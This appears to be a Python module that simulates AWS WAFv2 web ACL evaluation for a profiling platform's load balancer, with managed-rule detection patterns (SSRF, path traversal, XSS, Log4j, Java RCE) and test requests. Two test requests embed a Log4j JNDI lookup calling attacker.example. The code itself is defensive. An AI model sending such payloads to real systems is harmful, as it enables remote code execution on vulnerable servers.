"""What the WAFv2 web ACL in front of the ALB does with a request.

Contract: :func:`evaluate` decides a rendered ``aws:wafv2/webAcl:WebAcl`` (its engine,
camelCase inputs) on one :class:`Request` the way AWS WAF evaluates a web ACL:

- rules run in ``priority`` order; a matching rule's ALLOW/BLOCK (or CAPTCHA/CHALLENGE)
  ends the evaluation, COUNT records the match and goes on; with no terminating match the
  ``defaultAction`` applies. Labels added by earlier rules are visible to later ones only.
- An AWS managed rule group is a table of its sub-rules (:data:`MANAGED_GROUPS`, names,
  actions and labels from the AWS Managed Rules documentation), each decided from the
  request's shape with the patterns AWS documents as examples. A matching sub-rule adds its
  label; its action is its default or the ``ruleActionOverrides`` entry; the group's first
  terminating sub-rule is the group's result, turned into COUNT by ``overrideAction: count``.
  A ``scopeDownStatement`` gates the whole group. Content rules inspect only the first
  :data:`BODY_INSPECTION_LIMIT` bytes of a body (the ALB's fixed limit, ``CONTINUE``
  oversize handling); ``SizeRestrictions_BODY`` sees the full size.
- Custom statements: ``byteMatchStatement`` (uriPath, queryString, method, singleHeader;
  EXACTLY, STARTS_WITH, ENDS_WITH, CONTAINS; NONE, LOWERCASE, URL_DECODE), ``labelMatchStatement``
  (LABEL, NAMESPACE), and/or/not, ``rateBasedStatement`` (IP aggregation; the request's
  rate from its IP against the limit, scaled to the evaluation window). Any other statement
  or managed group raises :class:`UnsupportedStatement`, so a web ACL the model cannot judge
  fails loudly instead of passing.

:data:`EXPECTATIONS` are the representative requests the platform must let through or
stop; :func:`findings` lists the ones the attached web ACL decides otherwise (empty on a
healthy stack or one without a web ACL) and :func:`facts` prints one line per request.

The Amazon IP reputation group decides on the client address alone: a request carries the
Amazon threat lists its source IP is on (:attr:`Request.source_lists`).

Logging (:func:`logging_findings`): an attached web ACL must have a logging configuration
whose destination is a CloudWatch log group named ``aws-waf-logs-…`` (WAF refuses any other
name) that the log delivery service may write: ``logs:CreateLogStream`` and
``logs:PutLogEvents`` by ``delivery.logs.amazonaws.com`` on the group's streams, with the
``aws:SourceAccount`` and ``aws:SourceArn`` (``arn:aws:logs:<region>:<account>:*``) it sends,
allowed by a log resource policy of the stack.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, unquote_plus

from components.aws_model.graph import Graph, as_list

WEB_ACL = "aws:wafv2/webAcl:WebAcl"
ASSOCIATION = "aws:wafv2/webAclAssociation:WebAclAssociation"
LOAD_BALANCER = "aws:lb/loadBalancer:LoadBalancer"
BODY_INSPECTION_LIMIT = 8 * 1024
"""Bytes of a request body an ALB forwards to WAF for inspection (fixed for ALB)."""
RATE_WINDOW_S = 300
KB = 1024
MB = 1024 * KB


class UnsupportedStatement(ValueError):
    """The web ACL uses a statement, field or managed group the model does not evaluate."""


@dataclass(frozen=True)
class Request:
    """One HTTP request as WAF sees it. ``body`` holds the body's first bytes (at least
    what WAF inspects); ``body_size`` is the full size; ``rate_per_5min`` is how many
    requests like it the client IP sends in five minutes."""

    title: str
    method: str
    path: str
    query: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)
    body_size: int = 0
    body: bytes = b""
    rate_per_5min: int = 1
    source_lists: frozenset[str] = frozenset()

    def header(self, name: str) -> str | None:
        """The value of header ``name`` (case-insensitive), None if absent."""
        wanted = name.lower()
        return next((v for k, v in self.headers.items() if k.lower() == wanted), None)

    @property
    def inspected_body(self) -> str:
        """The part of the body WAF inspects, as text (bytes kept one-to-one)."""
        return self.body[:BODY_INSPECTION_LIMIT].decode("latin-1")

    @property
    def query_values(self) -> list[str]:
        """URL-decoded query argument values."""
        return [v for _, v in parse_qsl(self.query, keep_blank_values=True)]


@dataclass(frozen=True)
class Decision:
    """The web ACL's verdict: the final action, the rule that decided it (``default`` for
    the default action; ``<group>:<sub-rule>`` inside a managed group), the rules that only
    counted, and the labels the request collected."""

    action: str
    rule: str
    counted: tuple[str, ...] = ()
    labels: tuple[str, ...] = ()

    def __str__(self) -> str:
        text = self.action if self.rule == "default" else f"{self.action} by {self.rule}"
        return text + (f" (counted: {', '.join(self.counted)})" if self.counted else "")


@dataclass(frozen=True)
class SubRule:
    """One rule of a managed rule group: its name, label and default action, and the test
    of a request's shape that stands for its (partly unpublished) inspection."""

    name: str
    label: str
    matches: Callable[[Request], bool]
    action: str = "BLOCK"


# --- managed rule groups ---------------------------------------------------------------

_RFI = re.compile(r"(?:https?|ftps?|file)://\d{1,3}(?:\.\d{1,3}){3}", re.IGNORECASE)
_IMDS = "169.254.169.254"
_XSS = "<script"
_LFI = "../"
_LOG4J = "${jndi:"
_JAVA_RCE = "java.lang.runtime"


def _has(texts: Sequence[str], needle: str) -> bool:
    return any(needle in t.lower() for t in texts)


def _path(r: Request) -> list[str]:
    return [unquote_plus(r.path)]


def _query(r: Request) -> list[str]:
    return r.query_values


def _query_string(r: Request) -> list[str]:
    return [unquote_plus(r.query)]


def _ua(r: Request) -> str:
    return (r.header("user-agent") or "").lower()


def _cookie(r: Request) -> list[str]:
    return [r.header("cookie") or ""]


def _headers(r: Request) -> list[str]:
    return [t for k, v in r.headers.items() for t in (k, v)]


def _body(r: Request) -> list[str]:
    return [r.inspected_body]


def _family(label_ns: str, rule: str, needle: str, parts: Mapping[str, Callable]) -> list[SubRule]:
    """Sub-rules ``<rule>_<PART>`` that look for ``needle`` in each request part."""
    return [
        SubRule(
            f"{rule}_{part}", f"{label_ns}{rule}_{label}", lambda r, get=get: _has(get(r), needle)
        )
        for part, (label, get) in parts.items()
    ]


_CRS = "awswaf:managed:aws:core-rule-set:"
_KBI = "awswaf:managed:aws:known-bad-inputs:"


def _core_rule_set() -> tuple[SubRule, ...]:
    """AWSManagedRulesCommonRuleSet, in the order AWS documents it."""
    rules = [
        SubRule(
            "NoUserAgent_HEADER", _CRS + "NoUserAgent_Header", lambda r: not r.header("user-agent")
        ),
        SubRule(
            "UserAgent_BadBots_HEADER",
            _CRS + "BadBots_Header",
            lambda r: any(b in _ua(r) for b in ("nessus", "nmap")),
        ),
        SubRule(
            "SizeRestrictions_QUERYSTRING",
            _CRS + "SizeRestrictions_QueryString",
            lambda r: len(r.query.encode()) > 2048,
        ),
        SubRule(
            "SizeRestrictions_Cookie_HEADER",
            _CRS + "SizeRestrictions_Cookie_Header",
            lambda r: len(_cookie(r)[0].encode()) > 10240,
        ),
        SubRule(
            "SizeRestrictions_BODY", _CRS + "SizeRestrictions_Body", lambda r: r.body_size > 8 * KB
        ),
        SubRule(
            "SizeRestrictions_URIPATH",
            _CRS + "SizeRestrictions_URIPath",
            lambda r: len(r.path.encode()) > 1024,
        ),
    ]
    parts_bcpq = {
        "BODY": ("Body", _body),
        "COOKIE": ("Cookie", _cookie),
        "URIPATH": ("URIPath", _path),
        "QUERYARGUMENTS": ("QueryArguments", _query),
    }
    rules += _family(_CRS, "EC2MetaDataSSRF", _IMDS, parts_bcpq)
    rules += _family(
        _CRS,
        "GenericLFI",
        _LFI,
        {
            "QUERYARGUMENTS": ("QueryArguments", _query),
            "URIPATH": ("URIPath", _path),
            "BODY": ("Body", _body),
        },
    )
    restricted = (".log", ".ini")
    rules += [
        SubRule(
            "RestrictedExtensions_URIPATH",
            _CRS + "RestrictedExtensions_URIPath",
            lambda r: _path(r)[0].lower().endswith(restricted),
        ),
        SubRule(
            "RestrictedExtensions_QUERYARGUMENTS",
            _CRS + "RestrictedExtensions_QueryArguments",
            lambda r: any(v.lower().endswith(restricted) for v in _query(r)),
        ),
    ]
    rfi = {
        "QUERYARGUMENTS": ("QueryArguments", _query),
        "BODY": ("Body", _body),
        "URIPATH": ("URIPath", _path),
    }
    rules += [
        SubRule(
            f"GenericRFI_{part}",
            f"{_CRS}GenericRFI_{label}",
            lambda r, get=get: any(_RFI.search(t) for t in get(r)),
        )
        for part, (label, get) in rfi.items()
    ]
    xss = {
        "COOKIE": ("Cookie", _cookie),
        "QUERYARGUMENTS": ("QueryArguments", _query),
        "BODY": ("Body", _body),
        "URIPATH": ("URIPath", _path),
    }
    rules += _family(_CRS, "CrossSiteScripting", _XSS, xss)
    return tuple(rules)


def _known_bad_inputs() -> tuple[SubRule, ...]:
    """AWSManagedRulesKnownBadInputsRuleSet, in the order AWS documents it (ReactJSRCE_BODY,
    whose pattern AWS does not publish, is not modelled)."""
    hqbp = {
        "HEADER": ("Header", _headers),
        "BODY": ("Body", _body),
        "URIPATH": ("URIPath", _path),
        "QUERYSTRING": ("QueryString", _query_string),
    }
    rules = _family(_KBI, "JavaDeserializationRCE", _JAVA_RCE, hqbp)
    rules += [
        SubRule(
            "Host_localhost_HEADER",
            _KBI + "Host_Localhost_Header",
            lambda r: (r.header("host") or "").lower().startswith("localhost"),
        ),
        SubRule(
            "PROPFIND_METHOD", _KBI + "Propfind_Method", lambda r: r.method.upper() == "PROPFIND"
        ),
        SubRule(
            "ExploitablePaths_URIPATH",
            _KBI + "ExploitablePaths_URIPath",
            lambda r: _has(_path(r), "web-inf"),
        ),
    ]
    rules += _family(
        _KBI,
        "Log4JRCE",
        _LOG4J,
        {
            "HEADER": ("Header", _headers),
            "QUERYSTRING": ("QueryString", _query_string),
            "BODY": ("Body", _body),
            "URIPATH": ("URIPath", _path),
        },
    )
    return tuple(rules)


_IPR = "awswaf:managed:aws:amazon-ip-list:"
IP_LISTS = ("AWSManagedIPReputationList", "AWSManagedReconnaissanceList", "AWSManagedIPDDoSList")
"""Amazon threat-intelligence lists a source IP can be on (AWS Managed Rules docs)."""


def _ip_reputation() -> tuple[SubRule, ...]:
    """AWSManagedRulesAmazonIpReputationList: block IPs on the reputation and reconnaissance
    lists; the DDoS list only counts by default."""
    return tuple(
        SubRule(name, _IPR + name, lambda r, name=name: name in r.source_lists, "COUNT" if name.endswith("DDoSList") else "BLOCK")
        for name in IP_LISTS
    )


MANAGED_GROUPS: dict[tuple[str, str], tuple[SubRule, ...]] = {
    ("AWS", "AWSManagedRulesCommonRuleSet"): _core_rule_set(),
    ("AWS", "AWSManagedRulesKnownBadInputsRuleSet"): _known_bad_inputs(),
    ("AWS", "AWSManagedRulesAmazonIpReputationList"): _ip_reputation(),
}


# --- statements ------------------------------------------------------------------------


def _action(spec: Mapping[str, Any] | None) -> str:
    """``{"block": {}}`` -> ``BLOCK`` (the one key of an action or override block)."""
    keys = [k for k, v in (spec or {}).items() if v is not None]
    if len(keys) != 1:
        raise UnsupportedStatement(f"expected exactly one action in {spec!r}")
    return keys[0].upper()


def _field(request: Request, spec: Mapping[str, Any]) -> str:
    """The request component a ``fieldToMatch`` names."""
    if "uriPath" in spec:
        return request.path
    if "queryString" in spec:
        return request.query
    if "method" in spec:
        return request.method
    if "singleHeader" in spec:
        return request.header(spec["singleHeader"]["name"]) or ""
    raise UnsupportedStatement(f"fieldToMatch {sorted(spec)} is not modelled")


_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "NONE": lambda s: s,
    "LOWERCASE": str.lower,
    "URL_DECODE": unquote_plus,
}
_POSITIONS: dict[str, Callable[[str, str], bool]] = {
    "EXACTLY": lambda value, s: value == s,
    "STARTS_WITH": str.startswith,
    "ENDS_WITH": str.endswith,
    "CONTAINS": lambda value, s: s in value,
}


def _byte_match(spec: Mapping[str, Any], request: Request) -> bool:
    value = _field(request, spec["fieldToMatch"])
    for t in sorted(as_list(spec.get("textTransformations")), key=lambda t: t["priority"]):
        if t["type"] not in _TRANSFORMS:
            raise UnsupportedStatement(f"text transformation {t['type']} is not modelled")
        value = _TRANSFORMS[t["type"]](value)
    position = spec["positionalConstraint"]
    if position not in _POSITIONS:
        raise UnsupportedStatement(f"positional constraint {position} is not modelled")
    return _POSITIONS[position](value, spec["searchString"])


def _label_match(spec: Mapping[str, Any], labels: Sequence[str]) -> bool:
    """LABEL: a label equal to the key or ending in ``:<key>``; NAMESPACE: a label within
    the namespace ``key`` (which ends in ``:``)."""
    key = spec["key"]
    if spec["scope"] == "LABEL":
        return any(label == key or label.endswith(":" + key) for label in labels)
    if spec["scope"] == "NAMESPACE":
        ns = key if key.endswith(":") else key + ":"
        return any(label.startswith(ns) or f":{ns}" in label for label in labels)
    raise UnsupportedStatement(f"label match scope {spec['scope']} is not modelled")


def _rate_exceeded(spec: Mapping[str, Any], request: Request, labels: Sequence[str]) -> bool:
    if spec.get("aggregateKeyType", "IP") != "IP":
        raise UnsupportedStatement(
            f"rate aggregation {spec.get('aggregateKeyType')} is not modelled"
        )
    scope = spec.get("scopeDownStatement")
    if scope and not matches(scope, request, labels):
        return False
    window = int(spec.get("evaluationWindowSec") or RATE_WINDOW_S)
    return request.rate_per_5min * window / RATE_WINDOW_S > int(spec["limit"])


def matches(statement: Mapping[str, Any], request: Request, labels: Sequence[str]) -> bool:
    """Whether a (non-managed) statement matches ``request`` given the labels so far."""
    kinds = [k for k, v in statement.items() if v is not None]
    if len(kinds) != 1:
        raise UnsupportedStatement(f"expected exactly one statement, got {kinds}")
    kind, spec = kinds[0], statement[kinds[0]]
    if kind == "byteMatchStatement":
        return _byte_match(spec, request)
    if kind == "labelMatchStatement":
        return _label_match(spec, labels)
    if kind == "andStatement":
        return all(matches(s, request, labels) for s in spec["statements"])
    if kind == "orStatement":
        return any(matches(s, request, labels) for s in spec["statements"])
    if kind == "notStatement":
        return not matches(spec["statement"], request, labels)
    if kind == "rateBasedStatement":
        return _rate_exceeded(spec, request, labels)
    raise UnsupportedStatement(f"{kind} is not modelled")


def _run_group(
    spec: Mapping[str, Any], request: Request, labels: list[str], counted: list[str]
) -> tuple[str, str] | None:
    """Evaluate a managed rule group: its terminating (action, sub-rule), or None."""
    key = (spec.get("vendorName"), spec.get("name"))
    if key not in MANAGED_GROUPS:
        raise UnsupportedStatement(f"managed rule group {key} is not modelled")
    scope = spec.get("scopeDownStatement")
    if scope and not matches(scope, request, labels):
        return None
    overrides = {
        o["name"]: _action(o.get("actionToUse")) for o in as_list(spec.get("ruleActionOverrides"))
    }
    overrides.update({e["name"]: "COUNT" for e in as_list(spec.get("excludedRules"))})
    for sub in MANAGED_GROUPS[key]:
        if not sub.matches(request):
            continue
        labels.append(sub.label)
        action = overrides.get(sub.name, sub.action)
        if action == "COUNT":
            counted.append(sub.name)
        else:
            return action, sub.name
    return None


def evaluate(acl: Mapping[str, Any], request: Request) -> Decision:
    """The web ACL's decision on ``request`` (see the module contract)."""
    labels: list[str] = []
    counted: list[str] = []
    for rule in sorted(as_list(acl.get("rules")), key=lambda r: float(r["priority"])):
        name, statement = rule["name"], rule["statement"]
        group = statement.get("managedRuleGroupStatement")
        if group is not None:
            hit = _run_group(group, request, labels, counted)
            if hit is None:
                continue
            action = hit[0] if _action(rule.get("overrideAction")) == "NONE" else "COUNT"
            matched = f"{name}:{hit[1]}"
        else:
            if not matches(statement, request, labels):
                continue
            labels.extend(label["name"] for label in as_list(rule.get("ruleLabels")))
            action, matched = _action(rule.get("action")), name
        if action == "COUNT":
            counted.append(matched)
            continue
        return Decision(action, matched, tuple(counted), tuple(labels))
    return Decision(_action(acl.get("defaultAction")), "default", tuple(counted), tuple(labels))


# --- representative requests ---------------------------------------------------------


def _binary(size: int, seed: str, head: bytes = b"") -> bytes:
    """Deterministic stand-in for compressed profile bytes: ``head`` then pseudo-random
    bytes, as much of ``size`` as WAF could inspect."""
    out = bytearray(head)
    counter = 0
    while len(out) < min(size, BODY_INSPECTION_LIMIT + KB):
        out += hashlib.blake2b(f"{seed}/{counter}".encode()).digest()
        counter += 1
    return bytes(out[:size])


GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
_INGEST_QUERY = (
    "name=checkout.cpu%7Benv%3Dprod%7D&from=1767225600&until=1767225610"
    "&format=pprof&spyName=gospy&sampleRate=100"
)
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"
_AUTH = {"authorization": "Bearer fp_0123456789abcdef"}


def _multipart(size: int, field_name: str, seed: str) -> bytes:
    head = (
        b'--b0undary\r\nContent-Disposition: form-data; name="'
        + field_name.encode()
        + b'"; filename="'
        + field_name.encode()
        + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
        + GZIP
    )
    return _binary(size, seed, head)


@dataclass(frozen=True)
class Expectation:
    """A representative request and the action the platform needs for it."""

    request: Request
    action: str


EXPECTATIONS: tuple[Expectation, ...] = (
    Expectation(
        Request(
            "POST /push.v1.PusherService/Push 1.5 KB (agent push, pyroscope-io 1.x)",
            "POST",
            "/push.v1.PusherService/Push",
            headers={
                "user-agent": "pyroscope-rs/pyspy/1.4.0 reqwest",
                "content-type": "application/proto",
                "content-encoding": "gzip",
                **_AUTH,
            },
            body_size=1536,
            body=_binary(1536, "push", GZIP),
            rate_per_5min=30,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /push.v1.PusherService/Push 64 KB (Connect push, Grafana Alloy)",
            "POST",
            "/push.v1.PusherService/Push",
            headers={
                "user-agent": "connect-go/1.16.2 (go1.22.5)",
                "content-type": "application/proto",
                **_AUTH,
            },
            body_size=64 * KB,
            body=_binary(64 * KB, "alloy"),
            rate_per_5min=30,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /ingest 1.5 KB, no User-Agent (pyroscope-io < 1.0 agent)",
            "POST",
            "/ingest",
            _INGEST_QUERY,
            headers={"content-type": "binary/octet-stream", **_AUTH},
            body_size=1536,
            body=_binary(1536, "legacy", GZIP),
            rate_per_5min=30,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /ingest 2 MB pprof",
            "POST",
            "/ingest",
            _INGEST_QUERY,
            headers={
                "user-agent": "Go-http-client/1.1",
                "content-type": "application/octet-stream",
                **_AUTH,
            },
            body_size=2 * MB,
            body=_binary(2 * MB, "pprof", GZIP),
            rate_per_5min=30,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /ingest 20 MB multipart (JFR, pyroscope-java)",
            "POST",
            "/ingest",
            _INGEST_QUERY.replace("format=pprof", "format=jfr"),
            headers={
                "user-agent": "okhttp/4.12.0",
                "content-type": "multipart/form-data; boundary=b0undary",
                **_AUTH,
            },
            body_size=20 * MB,
            body=_multipart(20 * MB, "jfr", "jfr"),
            rate_per_5min=6,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /v1/traces 512 KB OTLP/HTTP protobuf (OpenTelemetry exporter)",
            "POST",
            "/v1/traces",
            "",
            headers={
                "user-agent": "OTel-OTLP-Exporter-Python/1.45.2",
                "content-type": "application/x-protobuf",
                "content-encoding": "gzip",
                **_AUTH,
            },
            body_size=512 * 1024,
            body=_binary(512 * 1024, "otlp", GZIP),
            rate_per_5min=60,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /api/v1/ingest 2 MB (fleetprof push)",
            "POST",
            "/api/v1/ingest",
            "service_name=checkout",
            headers={
                "user-agent": "python-httpx/0.28.1",
                "content-type": "application/octet-stream",
                **_AUTH,
            },
            body_size=2 * MB,
            body=_binary(2 * MB, "native", GZIP),
            rate_per_5min=1,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "GET /pyroscope/render (query)",
            "GET",
            "/pyroscope/render",
            "query=process_cpu%3Acpu%3Ananoseconds%3Acpu%3Ananoseconds"
            "%7Bservice_name%3D%22checkout%22%7D&from=now-1h&until=now",
            headers={"user-agent": _BROWSER, "accept": "application/json", **_AUTH},
            rate_per_5min=60,
        ),
        "ALLOW",
    ),
    Expectation(
        Request(
            "POST /pyroscope/render 20 KB body (oversized body off the ingest paths)",
            "POST",
            "/pyroscope/render",
            headers={"user-agent": _BROWSER, "content-type": "application/json"},
            body_size=20 * KB,
            body=b'{"query": "' + b"a" * (20 * KB - 14) + b'"}',
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "GET /pyroscope/render without User-Agent (off the ingest paths)",
            "GET",
            "/pyroscope/render",
            "query=process_cpu%3Acpu%7B%7D",
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "GET /pyroscope/render with a Log4j lookup in a header",
            "GET",
            "/pyroscope/render",
            "query=process_cpu%3Acpu%7B%7D",
            headers={"user-agent": _BROWSER, "x-api-version": "${jndi:ldap://attacker.example/a}"},
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "POST /ingest 1.5 KB with a Log4j lookup in a header",
            "POST",
            "/ingest",
            _INGEST_QUERY,
            headers={
                "user-agent": "Go-http-client/1.1",
                "x-forwarded-host": "${jndi:ldap://attacker.example/a}",
                **_AUTH,
            },
            body_size=1536,
            body=_binary(1536, "log4j", GZIP),
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "GET /pyroscope/render from an IP on Amazon's IP reputation list",
            "GET",
            "/pyroscope/render",
            "query=process_cpu%3Acpu%7B%7D",
            headers={"user-agent": _BROWSER, **_AUTH},
            source_lists=frozenset({"AWSManagedIPReputationList"}),
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "GET /pyroscope/render at 100000 requests / 5 min from one IP (query flood)",
            "GET",
            "/pyroscope/render",
            "query=process_cpu%3Acpu%7B%7D",
            headers={"user-agent": _BROWSER, **_AUTH},
            rate_per_5min=100_000,
        ),
        "BLOCK",
    ),
    Expectation(
        Request(
            "POST /push.v1.PusherService/Push at 100000 requests / 5 min from one IP",
            "POST",
            "/push.v1.PusherService/Push",
            headers={
                "user-agent": "pyroscope-rs/pyspy/1.4.0 reqwest",
                "content-type": "application/proto",
                **_AUTH,
            },
            body_size=1536,
            body=_binary(1536, "flood", GZIP),
            rate_per_5min=100_000,
        ),
        "BLOCK",
    ),
)


# --- over the rendered graph -----------------------------------------------------------


def attached_web_acls(graph: Graph) -> list[Any]:
    """Web ACLs associated with one of the stack's load balancers."""
    out = []
    for assoc in graph.of_type(ASSOCIATION):
        target, acl = (
            graph.ref(assoc.inputs.get("resourceArn")),
            graph.ref(assoc.inputs.get("webAclArn")),
        )
        if (
            target is not None
            and target.type == LOAD_BALANCER
            and acl is not None
            and acl.type == WEB_ACL
        ):
            out.append(acl)
    return out


LOGGING = "aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration"
LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"
LOG_POLICY = "aws:cloudwatch/logResourcePolicy:LogResourcePolicy"
LOG_PREFIX = "aws-waf-logs-"
DELIVERY_ACTIONS = ("logs:CreateLogStream", "logs:PutLogEvents")


def _delivery_refusals(graph: Graph, group: Any) -> list[str]:
    """The log delivery service's calls on ``group`` that no log resource policy allows."""
    from components.aws_model.policy_eval import Principal, decide, statements
    from components.aws_model.policy_eval import Request as Call

    arn = group.outputs["arn"]
    region, account = arn.split(":")[3], arn.split(":")[4]
    context = {"aws:SourceAccount": account, "aws:SourceArn": f"arn:aws:logs:{region}:{account}:delivery-source:waf"}
    policies = [s for p in graph.of_type(LOG_POLICY) for s in statements(p.inputs.get("policyDocument"))]
    who = Principal("Service", "delivery.logs.amazonaws.com")
    return [
        action
        for action in DELIVERY_ACTIONS
        if decide(policies, Call(who, action, f"{arn}:log-stream:waf", context), resource_policy=True) != "allow"
    ]


def logging_findings(graph: Graph) -> list[str]:
    """Attached web ACLs whose requests would not be logged (see the module contract)."""
    out = []
    configs = graph.of_type(LOGGING)
    for acl in attached_web_acls(graph):
        mine = [c for c in configs if graph.ref(c.inputs.get("resourceArn")) is acl]
        if not mine:
            out.append(f"web ACL {acl.name}: no logging configuration")
        for config in mine:
            for dest in as_list(config.inputs.get("logDestinationConfigs")):
                group = graph.ref_of_type(dest, LOG_GROUP)
                if group is None:
                    out.append(f"web ACL {acl.name}: log destination {dest} is not a log group of this stack")
                elif not str(group.inputs.get("name", "")).startswith(LOG_PREFIX):
                    out.append(f"web ACL {acl.name}: WAF refuses log group {group.inputs.get('name')} (needs {LOG_PREFIX}…)")
                elif refused := _delivery_refusals(graph, group):
                    out.append(f"web ACL {acl.name}: log delivery may not {', '.join(refused)} in {group.name}")
    return out


def findings(graph: Graph) -> list[str]:
    """Representative requests an attached web ACL decides otherwise than the platform
    needs, and attached web ACLs that would log nothing."""
    return [
        f"web ACL {acl.name}: {e.request.title} -> {decision}, needs {e.action}"
        for acl in attached_web_acls(graph)
        for e in EXPECTATIONS
        if (decision := evaluate(acl.inputs, e.request)).action != e.action
    ] + logging_findings(graph)


def facts(graph: Graph) -> list[str]:
    """One line per representative request and attached web ACL."""
    acls = attached_web_acls(graph)
    if not acls:
        return ["WAF: no web ACL attached to the ALB (every request reaches the listeners)"]
    return [
        f"WAF: {e.request.title} -> {evaluate(acl.inputs, e.request)}"
        for acl in acls
        for e in EXPECTATIONS
    ] + [f"WAF logging: {p}" for p in logging_findings(graph) or ["every attached web ACL logs to its aws-waf-logs- group"]]
